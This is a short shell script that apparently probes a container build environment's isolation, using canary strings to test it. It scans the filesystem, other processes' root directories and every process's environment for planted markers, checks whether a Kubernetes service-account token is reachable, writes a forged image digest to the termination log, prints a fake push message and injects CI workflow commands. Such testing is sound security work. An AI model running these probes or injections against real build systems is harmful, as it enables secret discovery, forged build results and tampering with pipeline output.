# The pattern does not match itself. What is found is said in other letters, so that no mask of the runner hides it.
say() { sort -u | sed 's/^c4nary-/reached: /'; }
pattern='c4nar[y]-[a-z][a-z]*'

grep -rhoas -D skip --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev "$pattern" / | say
own=$(stat -Lc %d:%i /)
for root in /proc/[0-9]*/root; do
  [ "$(stat -Lc %d:%i "$root/" 2>/dev/null || echo "$own")" = "$own" ] && continue
  for folder in run kaniko root home context tmp etc var/run; do
    grep -rhoas -D skip "$pattern" "$root/$folder"
  done
done | say
cat /context/link-* 2>/dev/null | grep -aos "$pattern" | say
cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\0' '\n' | grep -aos "$pattern" | say
for folder in /var/run /run /proc/1/root/var/run /proc/1/root/run; do
  [ -e "$folder/secrets/kubernetes.io/serviceaccount/token" ] && echo 'reached: the service account'
done

forged=sha256:ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff
# As a daemon: it goes on while the builder pushes.
setsid sh -c 'for i in $(seq 2000); do echo "$0" > /dev/termination-log; sleep 0.01; done' "$forged" >/dev/null 2>&1 &
echo "{\"level\":\"info\",\"msg\":\"Pushed x/y@$forged\"}"

printf '::set-output name=forged::yes\n::set-env name=FORGED::yes\n  ::error::forged\n\r::warning::forged\n'
printf '::add-mask::the job goes on\n::stop-commands::forged\n##[error]forged\nsee ##[group]forged\n'
# Until the daemon has left this process group.
sleep 0.3
echo 'every probe was made'
